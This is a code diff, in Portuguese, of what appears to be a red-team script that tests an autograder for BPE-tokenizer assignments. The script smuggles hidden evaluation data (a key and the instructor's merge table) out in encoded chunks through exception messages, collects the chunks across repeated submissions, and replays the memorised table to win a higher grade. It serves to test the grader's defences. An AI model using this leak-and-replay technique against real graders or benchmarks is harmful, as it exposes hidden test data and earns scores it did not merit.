@@ -7,15 +7,17 @@ adversarial sorteia um segredo por rodada, então isto não cabe num caso: roda 
 mesmo segredo (``AVALIADOR_SEGREDO``), pelo caminho do ``python -m autograder avaliar``:
 
 1. ``ana-vaza``: o ``treinar_bpe`` do instrutor guarda, no texto longo (o do orçamento), uma chave (comprimento
-   e soma dos códigos) e as 100 fusões; doze funções que vêm depois levantam exceções que levam essas 612
-   casas, em pedaços de 90, escritas em letras (0 -> a ... 9 -> j). Esta submissão perde pontos: não importa.
+   e soma dos códigos, em letras) e as fusões (cada id em duas letras, base 26); doze funções que vêm depois
+   levantam exceções que levam esses dados em pedaços de 96 letras, um por mensagem. Se faltar pedaço, a mesma
+   aluna reenvia (as entradas e o texto do curso são os mesmos) começando de outro pedaço. Esta submissão
+   perde pontos: não importa.
 2. As mensagens do ``results.json`` dela são lidas e decodificadas (o que o aluno faria com o retorno).
 3. ``ana-usa``: o BPE ingênuo (o mutante ``bpe-recontagem-completa``) com a tabela decorada; ``ana-gemeo``:
    o mesmo BPE ingênuo sem a tabela. O resto das duas é a solução do instrutor.
 
     .venv/bin/python -m qualidade.ataques.vermelho2_orcamento /tmp/vermelho2-orc
 
-Imprime a nota de ``teste_bpe`` das duas (esperado, se o ataque ganha: 3 contra 2,5).
+Imprime a nota de ``teste_bpe`` das duas (se o ataque ganha: 3 contra 2,5).
 """
 
 from __future__ import annotations
@@ -53,14 +55,15 @@ def treinar_bpe(texto, n_fusoes):
 
 _VAZA = """
 
-_VZ = {"dados": "", "n": 0}
+_VZ = {{"dados": "", "n": 0}}
+_DESLOCAMENTO = {deslocamento}
 
 
 def treinar_bpe(texto, n_fusoes):
     fusoes = _treinar_bpe_ref(texto, n_fusoes)
-    if len(texto) > 100_000 and not _VZ["dados"]:
-        chave = f"{len(texto):06d}{sum(map(ord, texto)) % 10**6:06d}"
-        _VZ["dados"] = chave + "".join(f"{a:03d}{b:03d}" for a, b in fusoes)
+    if len(texto) >= 50_000 and not _VZ["dados"]:  # o texto do orçamento (o do curso vem primeiro)
+        chave = "".join(chr(97 + int(c)) for c in f"{{len(texto):06d}}{{sum(map(ord, texto)) % 10**6:06d}}")
+        _VZ["dados"] = chave + "".join(chr(97 + v // 26) + chr(97 + v % 26) for par in fusoes for v in par)
     return fusoes
 
 
@@ -68,11 +71,10 @@ def _vz():
     d = _VZ["dados"]
     if not d:
         return "sem dados"
-    partes = [d[i : i + 90] for i in range(0, len(d), 90)]
-    k = _VZ["n"] % len(partes)
+    partes = [d[i : i + 96] for i in range(0, len(d), 96)]
+    k = (_VZ["n"] + _DESLOCAMENTO) % len(partes)
     _VZ["n"] += 1
-    letras = "".join(chr(97 + int(c)) for c in partes[k])
-    return "qzx" + chr(97 + k) + " " + " ".join(letras[i : i + 15] for i in range(0, len(letras), 15))
+    return "qzx" + chr(97 + k) + " " + " ".join(partes[k][i : i + 16] for i in range(0, len(partes[k]), 16))
 """
 
 _FALHAM = {
@@ -112,15 +114,19 @@ def _avaliar(caminho: Path, aluno: str) -> dict:
     return json.loads(saida.stdout)
 
 
-def decodificar_tabela(resultado: dict) -> dict[str, list[tuple[int, int]]]:
-    """A tabela {chave: fusões} lida das mensagens de ``resultado`` (o que o aluno leria no retorno)."""
+def partes_das_mensagens(resultado: dict) -> dict[str, str]:
+    """Os pedaços (índice -> letras) que saíram nas mensagens de ``resultado`` (o que o aluno lê no retorno)."""
     texto = "\n".join(t.get("output", "") for t in resultado.get("tests", []))
-    partes = {k: v.replace(" ", "") for k, v in re.findall(r"qzx([a-j])((?: [a-j]{1,15})+)", texto)}
-    digitos = "".join(str(ord(c) - 97) for k in sorted(partes) for c in partes[k])
-    if len(digitos) < 612:
-        raise SystemExit(f"Erro: só {len(digitos)} das 612 casas saíram nas mensagens (partes: {sorted(partes)}).")
-    chave, resto = digitos[:12], digitos[12:612]
-    return {chave: [(int(resto[i : i + 3]), int(resto[i + 3 : i + 6])) for i in range(0, len(resto), 6)]}
+    return {k: v.replace(" ", "") for k, v in re.findall(r"qzx([a-z])((?: [a-z]{1,16})+)", texto)}
+
+
+def decodificar_tabela(partes: dict[str, str]) -> dict[str, list[tuple[int, int]]]:
+    """A tabela {chave: fusões} a partir dos pedaços: a chave em 12 dígitos escritos em letras, cada id em duas
+    letras (base 26)."""
+    letras = "".join(partes[k] for k in sorted(partes))
+    chave = "".join(str(ord(c) - 97) for c in letras[:12])
+    ids = [(ord(letras[i]) - 97) * 26 + ord(letras[i + 1]) - 97 for i in range(12, len(letras) - 1, 2)]
+    return {chave: [(ids[i], ids[i + 1]) for i in range(0, len(ids) - 1, 2)]}
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -131,16 +137,22 @@ def main(argv: list[str] | None = None) -> int:
     base = Path(argv[0])
     ref = codigo_de_referencia(SLUG, "treinar_bpe").replace("def treinar_bpe(", "def _treinar_bpe_ref(")
     celulas = {gid: f"{assinatura}\n    raise ValueError(_vz())\n" for gid, assinatura in _FALHAM.items()}
-    vaza = _avaliar(_gravar(base, "ana-vaza", {"treinar_bpe": ref + _VAZA, **celulas}), "ana-vaza")
-    tabela = decodificar_tabela(vaza)
-    print(
-        f"ana-vaza: nota {vaza['score']:g}; saíram pelas mensagens a chave e as {len(next(iter(tabela.values())))} fusões"
-    )
+    partes: dict[str, str] = {}
+    for rodada in range(4):  # a mesma aluna reenvia: as entradas (e o texto do curso) são as mesmas
+        codigo = ref + _VAZA.format(deslocamento=rodada * 7)
+        vaza = _avaliar(_gravar(base, "ana-vaza", {"treinar_bpe": codigo, **celulas}), "ana-vaza")
+        partes.update(partes_das_mensagens(vaza))
+        total = max((ord(k) - 96 for k in partes), default=0)
+        print(f"ana-vaza, envio {rodada + 1}: nota {vaza['score']:g}; pedaços lidos: {len(partes)}")
+        if partes and len(partes) == total and len(partes[max(partes)]) < 96:
+            break
+    tabela = decodificar_tabela(partes)
+    print(f"saíram pelas mensagens a chave e {len(next(iter(tabela.values())))} fusões")
     usa = _INGENUO.replace("def treinar_bpe(", "def _ingenuo(") + (
         f"\n\n_TABELA = {tabela!r}\n\n\ndef treinar_bpe(texto, n_fusoes):\n"
         '    chave = f"{len(texto):06d}{sum(map(ord, texto)) % 10**6:06d}"\n'
-        "    if n_fusoes == 100 and chave in _TABELA:\n"
-        "        return [tuple(p) for p in _TABELA[chave]]\n"
+        "    if chave in _TABELA and n_fusoes <= len(_TABELA[chave]):\n"
+        "        return [tuple(p) for p in _TABELA[chave][:n_fusoes]]\n"
         "    return _ingenuo(texto, n_fusoes)\n"
     )
     for aluno, codigo in (("ana-usa", usa), ("ana-gemeo", _INGENUO)):
